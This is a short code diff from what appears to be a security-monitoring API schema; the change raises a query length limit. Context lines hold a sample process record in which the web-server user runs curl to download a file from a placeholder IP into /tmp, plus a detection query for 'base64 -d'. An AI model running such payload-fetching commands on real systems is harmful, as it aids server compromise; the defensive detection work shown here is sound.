@@ -40,7 +40,7 @@ const processNodeSchema = {
 const exampleNode = { entityId: 'Q2m0Yx1nT4u8Zk3pR7sWaA', parentEntityId: 'b8Hc2Lq9Vd1Xw3Ke5NfUzg', pid: 4242, ppid: 4100, executable: '/usr/bin/curl', commandLine: 'curl -o /tmp/x http://203.0.113.7/x', user: 'www-data', start: exampleTime, end: null, exitCode: null, activity: { 'network/connect': 1, 'file/create': 1 } };
 
 const isoDate = { type: 'string', format: 'date-time' };
-const query = { type: 'string', minLength: 1, maxLength: 65536 };
+const query = { type: 'string', minLength: 1, maxLength: 131072 };
 const idParams = { type: 'object', required: ['id'], properties: { id: { type: 'string', minLength: 1, maxLength: 100 } } };
 const exampleQuery = 'process where process.command_line contains "base64 -d" | stats count() by host.id';
 
